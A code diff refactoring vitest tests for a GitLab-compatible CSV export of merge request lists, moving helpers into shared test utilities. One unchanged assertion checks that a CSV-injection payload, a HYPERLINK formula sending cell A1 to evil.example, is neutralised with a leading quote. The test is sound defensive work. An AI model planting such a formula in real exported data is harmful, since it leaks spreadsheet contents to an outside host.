@@ -1,7 +1,8 @@
 import { sql } from 'kysely';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { AccessLevel } from '../../policy/access-levels';
-import { csvObjects, parseCsv } from '../../test/csv-records';
+import { openMergeRequest } from '../../test/api-client';
+import { csvDownloads, itAnswersAsItsList } from '../../test/csv-downloads';
 import { useRestTestApp } from '../../test/rest-test-app';
 
 /** "Export as CSV" of the project and group merge request lists (issue 32): GitLab's columns, the list's rules. */
@@ -20,6 +21,7 @@ const t = useRestTestApp({
   },
 });
 const { api, tok, uid, pid, gid } = t;
+const { exportRows, expectDatedAttachment, expectListOrder, expectNotFound } = csvDownloads(t);
 
 /** GitLab's `MergeRequests::ExportCsvService#header_to_value_hash`, in its order. */
 const GITLAB_COLUMNS = [
@@ -45,25 +47,10 @@ const GITLAB_COLUMNS = [
   'Updated At (UTC)',
 ];
 
-const csvGet = (path: string, who?: string) =>
-  t.app.inject({ method: 'GET', url: path, headers: who ? { 'private-token': tok[who] ?? '' } : {} });
-
-async function exportRows(path: string, who?: string) {
-  const res = await csvGet(path, who);
-  expect(res.statusCode, res.body).toBe(200);
-  return csvObjects(res.body);
-}
-
 let branch = 0;
-async function newMr(projectId: number, fields: Record<string, unknown>) {
+async function newMr(projectId: number, fields: { title: string } & Record<string, unknown>) {
   branch++;
-  const res = await api('POST', `/projects/${projectId}/merge_requests`, 'owner', {
-    source_branch: `feature-${branch}`,
-    target_branch: 'main',
-    ...fields,
-  });
-  expect(res.statusCode, res.body).toBe(201);
-  return res.json() as { iid: number; id: number };
+  return openMergeRequest(api, projectId, 'owner', { source_branch: `feature-${branch}`, ...fields });
 }
 
 let milestoneId = 0;
@@ -98,13 +85,25 @@ beforeAll(async () => {
 });
 
 describe('GET /<project>/-/merge_requests.csv', () => {
-  it("answers GitLab's columns in GitLab's order, as a dated CSV attachment", async () => {
-    const res = await csvGet('/mrcsvacme/web/-/merge_requests.csv', 'owner');
-    expect(res.statusCode, res.body).toBe(200);
-    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
-    const today = new Date().toISOString().slice(0, 10);
-    expect(res.headers['content-disposition']).toBe(`attachment; filename="web-merge_requests-${today}.csv"`);
-    expect(parseCsv(res.body)[0]).toEqual(GITLAB_COLUMNS);
+  itAnswersAsItsList(t, {
+    csvPath: '/mrcsvacme/web/-/merge_requests.csv',
+    restPath: () => `/projects/${pid.web}/merge_requests`,
+    attachmentName: 'web-merge_requests',
+    columns: GITLAB_COLUMNS,
+    queries: [
+      '',
+      '?state=all',
+      '?state=opened&labels=bug&order_by=title&sort=asc',
+      '?state=all&order_by=merged_at&sort=desc',
+      '?state=all&order_by=updated_at&sort=asc&not[labels]=feature',
+      '?state=all&draft=no',
+      '?search=Alpha&in=title',
+    ],
+    column: 'MR IID',
+    field: 'iid',
+    missingPath: '/mrcsvacme/nothing/-/merge_requests.csv',
+    publicDownload: { path: '/mrcsvopen/pub/-/merge_requests.csv', titles: ['Public change'] },
+    badFilter: 'order_by',
   });
 
   it("writes each merge request's cells as GitLab does", async () => {
@@ -142,60 +141,30 @@ describe('GET /<project>/-/merge_requests.csv', () => {
     expect(formula?.Title).toBe(`'=HYPERLINK("http://evil.example/?"&A1)`);
     expect(formula?.Description).toBe("'@SUM(A1)");
   });
-
-  it.each([
-    '',
-    '?state=all',
-    '?state=opened&labels=bug&order_by=title&sort=asc',
-    '?state=all&order_by=merged_at&sort=desc',
-    '?state=all&order_by=updated_at&sort=asc&not[labels]=feature',
-    '?state=all&draft=no',
-    '?search=Alpha&in=title',
-  ])('lists what the REST list lists, in its order: %s', async (query) => {
-    const rest = await api(
-      'GET',
-      `/projects/${pid.web}/merge_requests${query}${query ? '&' : '?'}per_page=100`,
-      'owner',
-    );
-    expect(rest.statusCode, rest.body).toBe(200);
-    const rows = await exportRows(`/mrcsvacme/web/-/merge_requests.csv${query}`, 'owner');
-    expect(rows.map((r) => Number(r['MR IID']))).toEqual((rest.json() as Array<{ iid: number }>).map((m) => m.iid));
-  });
-
-  it('is 404 for a project the caller may not see, and works anonymously on a public project', async () => {
-    expect((await csvGet('/mrcsvacme/web/-/merge_requests.csv', 'outsider')).statusCode).toBe(404);
-    expect((await csvGet('/mrcsvacme/web/-/merge_requests.csv')).statusCode).toBe(404);
-    expect((await csvGet('/mrcsvacme/nothing/-/merge_requests.csv', 'owner')).statusCode).toBe(404);
-    const rows = await exportRows('/mrcsvopen/pub/-/merge_requests.csv');
-    expect(rows.map((r) => r.Title)).toEqual(['Public change']);
-  });
-
-  it('refuses a bad filter with a 400 naming it, as the list does', async () => {
-    const res = await csvGet('/mrcsvacme/web/-/merge_requests.csv?order_by=bogus', 'owner');
-    expect(res.statusCode).toBe(400);
-    expect(res.body).toContain('order_by');
-  });
 });
 
 describe('GET /groups/<group>/-/merge_requests.csv', () => {
   it("lists the group's merge requests as GET /groups/:id/merge_requests does, in its order", async () => {
-    const query = '?labels=bug&order_by=title&sort=asc';
-    const rest = await api('GET', `/groups/${gid.acme}/merge_requests${query}&per_page=100`, 'owner');
-    const res = await csvGet(`/groups/mrcsvacme/-/merge_requests.csv${query}`, 'owner');
-    expect(res.statusCode, res.body).toBe(200);
-    expect(res.headers['content-disposition']).toMatch(
-      /^attachment; filename="mrcsvacme-merge_requests-\d{4}-\d\d-\d\d\.csv"$/,
+    await expectDatedAttachment(
+      '/groups/mrcsvacme/-/merge_requests.csv',
+      'owner',
+      'mrcsvacme-merge_requests',
+      GITLAB_COLUMNS,
     );
-    const [header, ...rows] = parseCsv(res.body);
-    expect(header).toEqual(GITLAB_COLUMNS);
-    const urls = rows.map((r) => r[3]);
-    expect(urls).toEqual((rest.json() as Array<{ web_url: string }>).map((m) => m.web_url));
-    expect(urls.some((u) => u?.includes('/mrcsvacme/api/-/merge_requests/'))).toBe(true);
+    const query = '?labels=bug&order_by=title&sort=asc';
+    const csvPath = `/groups/mrcsvacme/-/merge_requests.csv${query}`;
+    const rows = await expectListOrder({
+      restPath: `/groups/${gid.acme}/merge_requests${query}`,
+      csvPath,
+      who: 'owner',
+      column: 'URL',
+      field: 'web_url',
+    });
+    expect(rows.some((r) => r.URL?.includes('/mrcsvacme/api/-/merge_requests/'))).toBe(true);
   });
 
   it('is 404 for a group the caller may not see', async () => {
-    expect((await csvGet('/groups/mrcsvacme/-/merge_requests.csv', 'outsider')).statusCode).toBe(404);
-    expect((await csvGet('/groups/mrcsvacme/-/merge_requests.csv')).statusCode).toBe(404);
+    await expectNotFound('/groups/mrcsvacme/-/merge_requests.csv', ['outsider', undefined]);
   });
 });
 
